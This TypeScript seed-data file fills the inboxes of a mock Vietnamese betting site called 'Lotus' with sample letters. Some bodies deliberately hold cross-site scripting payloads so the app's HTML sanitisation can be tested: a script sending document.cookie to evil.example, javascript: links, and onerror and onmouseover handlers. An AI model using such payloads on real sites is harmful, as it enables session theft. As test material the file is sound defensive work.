// Seed data of the letters: lotus888's inbox (3 unread, one per tab, some carrying HTML with scripts, event
// handlers and javascript: links on purpose: the backend passes what operators type, and the app must sanitise it
// before rendering), the welcome letter every other member has read, and the letters a new member finds.
import type { LetterType } from '@/shared/api/generated/main/model';
import { db } from '../db';
import { serverTime, toBase64 } from '../handlers/account-shared';

const HOUR = 3_600_000;

export interface LetterText {
  id: number;
  letType: LetterType;
  title: string;
  body: string;
  read: boolean;
  /** Hours before the seed's reference time. */
  hoursAgo: number;
}

/** lotus888's inbox: one unread letter per tab (3 unread in total), the rest read. */
export const LOTUS_LETTERS: LetterText[] = [
  {
    id: 9001,
    letType: 0,
    title: 'Chúc mừng thăng cấp VIP',
    body: 'Chúc mừng bạn đã lên VIP 2! Phần thưởng thăng cấp đã được cộng vào ví.',
    read: false,
    hoursAgo: 2,
  },
  {
    id: 9002,
    letType: 1,
    title: 'Vòng quay may mắn',
    body: '<p>Vòng quay may mắn đã bắt đầu, đăng nhập mỗi ngày để nhận lượt quay miễn phí.</p><a href="javascript:alert(document.cookie)">Tham gia ngay</a>',
    read: false,
    hoursAgo: 5,
  },
  {
    id: 9003,
    letType: 2,
    title: 'Lịch thi đấu cuối tuần',
    body: '<h3>Lịch thi đấu cuối tuần</h3><table><tr><td>Hà Nội FC</td><td>20:00</td><td>Hải Phòng</td></tr></table><script>fetch("https://evil.example/steal?c="+document.cookie)</script>',
    read: false,
    hoursAgo: 9,
  },
  {
    id: 9004,
    letType: 0,
    title: 'Thông báo bảo trì',
    body: 'Hệ thống sẽ bảo trì từ 02:00 đến 04:00. Xin cảm ơn quý khách đã thông cảm.',
    read: true,
    hoursAgo: 30,
  },
  {
    id: 9005,
    letType: 0,
    title: 'Cảnh báo lừa đảo',
    body: '<p><b>Không</b> chia sẻ mã xác minh cho bất kỳ ai.</p><img src="x" onerror="alert(\'xss\')"><script>alert("xss")</script>',
    read: true,
    hoursAgo: 54,
  },
  {
    id: 9006,
    letType: 1,
    title: 'Hoàn trả cuối tuần',
    body: '<p>Hoàn trả 1,2% cho mọi cược thể thao cuối tuần.</p><div onmouseover="alert(1)">Xem chi tiết</div>',
    read: true,
    hoursAgo: 76,
  },
  {
    id: 9007,
    letType: 2,
    title: 'Kết quả V.League vòng 12',
    body: 'Hà Nội FC 2 - 1 Hải Phòng. Công An Hà Nội 0 - 0 Thể Công.',
    read: true,
    hoursAgo: 100,
  },
];

/** Every other seeded member has read the welcome letter. */
export const WELCOME_LETTER = {
  title: 'Chào mừng đến với Lotus',
  body: 'Cảm ơn bạn đã tham gia Lotus. Chúc bạn có những giây phút giải trí vui vẻ!',
};

/** Letters a member registered in this session finds in the inbox (both unread). */
export const NEW_MEMBER_LETTERS: Array<{ letType: LetterType; title: string; body: string }> = [
  { letType: 0, title: WELCOME_LETTER.title, body: WELCOME_LETTER.body },
  {
    letType: 1,
    title: 'Quà chào mừng thành viên mới',
    body: '<p>Nhận ngay gói quà chào mừng trong mục Khuyến mãi.</p><img src="x" onerror="alert(1)">',
  },
];

const memberId = (userName: string): number | undefined => db.members.findFirst((q) => q.where({ userName }))?.id;

/** The letters of every seeded member, with fixed ids: lotus888's from 9001, the others' welcome letters from 9101. */
export async function seedLetters(now: number): Promise<void> {
  const lotus = memberId('lotus888');
  if (lotus !== undefined) {
    for (const letter of LOTUS_LETTERS) {
      await db.letters.create({
        id: letter.id,
        memberId: lotus,
        title: letter.title,
        content: toBase64(letter.body),
        letType: letter.letType,
        status: letter.read ? 1 : 0,
        sendTime: serverTime(now - letter.hoursAgo * HOUR),
      });
    }
  }
  let id = 9100;
  for (const member of db.members.all()) {
    if (member.id !== lotus) {
      id += 1;
      await db.letters.create({
        id,
        memberId: member.id,
        title: WELCOME_LETTER.title,
        content: toBase64(WELCOME_LETTER.body),
        letType: 0,
        status: 1,
        sendTime: serverTime(now - 24 * 40 * HOUR),
      });
    }
  }
}
